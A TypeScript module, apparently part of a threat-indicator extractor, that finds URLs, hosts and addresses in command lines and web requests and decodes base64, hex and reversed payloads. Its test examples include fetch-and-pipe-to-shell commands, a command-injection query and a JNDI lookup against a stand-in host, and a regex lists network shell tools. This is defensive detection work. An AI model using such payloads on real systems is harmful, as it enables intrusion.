/**
 * Command lines and scripts: the URLs in them, the hosts that they name, and
 * what they carry encoded.
 *
 * @module
 */
import { addressesIn } from "../tokens.ts";
import { isVendors } from "../vendors.ts";
import { hostsNamedIn } from "./programs.ts";
import type { Finding } from "./source.ts";
import {
  decodeBase64,
  decodeHex,
  withoutEscapes,
  withoutLookups,
  withoutShell,
  withoutStrings,
} from "./unwrap.ts";
import { eachUrlIn, urlAndHost } from "./urls.ts";

/** No more of a text is looked at, decoded parts counted. */
const MAX_LENGTH = 65_536;

/** Base64 in base64 in base64. */
const MAX_DEPTH = 3;

/** So many parts of a text are decoded. */
const MAX_DECODED = 10;

/**
 * What a command line or a script holds.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * const found = (text: string) =>
 *   [...findInCommand(text, "f")].map(({ text }) => text);
 * assertEquals(found("curl -o x.sh evil.example/x"), [
 *   "evil.example",
 *   "http://evil.example/x",
 * ]);
 * assertEquals(found("ssh -p 22 root@1.2.3.4"), ["1.2.3.4"]);
 * assertEquals(found("echo Y3VybCBhLmV4YW1wbGUveA== | base64 -d | sh"), [
 *   "a.example",
 *   "http://a.example/x",
 * ]);
 * ```
 */
export function* findInCommand(
  text: string,
  field: string,
): Generator<Finding> {
  const parts: { readonly text: string; readonly depth: number }[] = [
    { text: text.slice(0, MAX_LENGTH), depth: 0 },
  ];
  let room = MAX_LENGTH;
  for (const { text, depth } of parts) {
    const plain = withoutShell(withoutStrings(withoutLookups(text)));
    yield* findInPlain(plain, field);
    if (depth === MAX_DEPTH) continue;
    for (const part of decodedIn(plain)) {
      if (parts.length > MAX_DECODED || room <= 0) break;
      parts.push({ text: part.slice(0, room), depth: depth + 1 });
      room -= part.length;
    }
  }
}

/**
 * What a web request holds that carries a command: nothing if it carries none.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * const found = (text: string) =>
 *   [...findInRequest(text, "f")].map(({ text }) => text);
 * assertEquals(found("/?c=ping%20-c1%20evil.example;"), ["evil.example"]);
 * assertEquals(found("${jndi:dns:evil.example}"), ["dns://evil.example", "evil.example"]);
 * assertEquals(found("Bot/1.0 (+http://bot.example)"), []);
 * ```
 */
export function* findInRequest(
  text: string,
  field: string,
): Generator<Finding> {
  // Most requests carry none: this is quick to see.
  if (!/[%+ $;|`({\\]/.test(text)) return;
  const part = text.slice(0, MAX_LENGTH);
  // In a form, "+" stands for a blank.
  const spaced = part.replace(
    /\S+/g,
    (word) => /[?=]/.test(word) ? word.replaceAll("+", " ") : word,
  );
  const plain = withoutLookups(withoutEscapes(spaced));
  if (CARRIES_COMMAND.test(plain)) yield* findInCommand(plain, field);
}

const CARRIES_COMMAND =
  /\bjndi:|base64_decode\(|(?:shell_exec|system|passthru|popen)\(|\(\)\s{0,9}\{|\/dev\/(?:tc|ud)p\/|(?:^|[\s;|&`'"(=/{])(?:wget|curl|fetch|tftp|ftpget|lwp-download|nc|ncat|netcat|telnet|ping|nslookup|dig|certutil|bitsadmin|powershell|pwsh|mshta|(?:ba|da|z)?sh)(?:\.exe)?(?:\s|\$IFS|\$\{IFS|,)/i;

function* findInPlain(
  written: string,
  field: string,
): Generator<Finding> {
  const names: string[] = [];
  const text = written.includes("xmlns")
    ? written.replace(NAMESPACE, (_, name) => {
      names.push(name);
      return "";
    })
    : written;
  for (const name of names.slice(0, MAX_DECODED)) {
    yield { text: name, field, reason: "the name of an XML namespace" };
  }
  for (const { url } of eachUrlIn(text)) {
    if (isVendors(url, NO_MAKERS)) {
      yield { text: url, field, reason: "a vendor's page" };
    } else yield* urlAndHost(url, field);
  }
  for (const { text: address } of addressesIn(text)) {
    // A resolver that is asked is no IoC.
    yield { kind: "address", text: address, field, port: "53" };
  }
  yield* hostsNamedIn(text, field);
}

/** In a tag: `<Task version="1.2" xmlns="http://…"`. It is fetched by nobody. */
const NAMESPACE =
  /(?<=<[\w:.-]{1,60}\s[^<>]{0,400})\bxmlns(?::[\w.-]{1,60})?\s?=\s?["']([^"'<>]{1,300})["']/g;

/** Who writes a script may name himself as he likes. */
const NO_MAKERS = () => new Set<string>();

/** PowerShell's -EncodedCommand, in all the ways it may be cut. */
const ENCODED_COMMAND =
  /\s[-/\u2013]e(?:c|n|nc|nco|ncod|ncode|ncoded\w{0,8})?\s{1,9}["']?([A-Za-z\d+/]{8,}={0,2})/gi;
const DECODED_BY_CALL =
  /(?:FromBase64String|b64decode|decode_base64|base64_decode|atob|Base64\.decode\w{0,4}|Buffer\.from)\s{0,9}\(\s{0,9}[bru]?["']([A-Za-z\d+/\s]{8,}={0,2})/gi;
const BASE64 = /(?<![A-Za-z\d+/])[A-Za-z\d+/]{16,}={0,2}(?![A-Za-z\d+/=])/g;
const DECODER =
  /base64\s{1,9}(?:-d|--decode|-D)|openssl\s[^|;]{0,40}base64|base64decode|FromBase64String\(\s{0,9}\$/i;

/** What is told to read its text from the end: `| rev`, `$s[-1..-9]` */
const REVERSER = /\|\s{0,9}rev\b|\[-1\s{0,3}\.\.|\[array\]::reverse/i;

/** How JNDI's servers are told what to run: ldap://…/Basic/Command/Base64/… */
const JNDI_COMMAND = /\/Base64\/([A-Za-z\d+/]{8,}={0,2})/gi;

const HEX = /(?<![\da-z])(?:[\da-f]{2}){8,}(?![\da-z])/gi;
const HEX_DECODER =
  /\bxxd\s[^|;]{0,40}-\w{0,3}r|unhexlify|fromhex|\bhex2bin|\bto(?:int|byte)\w{0,3}\([^)]{1,40}, ?16\)/i;

/** The texts that a text has in base64, in hexadecimal digits or reversed. */
function* decodedIn(text: string): Generator<string> {
  const encoded = [
    ...matchesOf(text, ENCODED_COMMAND),
    ...matchesOf(text, DECODED_BY_CALL),
    ...matchesOf(text, JNDI_COMMAND),
    ...DECODER.test(text) ? matchesOf(text, BASE64) : [],
  ];
  for (const one of encoded) {
    const decoded = decodeBase64(one);
    if (decoded !== undefined) yield decoded;
  }
  if (REVERSER.test(text)) yield [...text].toReversed().join("");
  for (const one of HEX_DECODER.test(text) ? matchesOf(text, HEX) : []) {
    const decoded = decodeHex(one);
    if (decoded !== undefined) yield decoded;
  }
}

function matchesOf(text: string, pattern: RegExp): readonly string[] {
  return text.matchAll(pattern).take(MAX_DECODED)
    .map(([whole, part = whole]) => part).toArray();
}
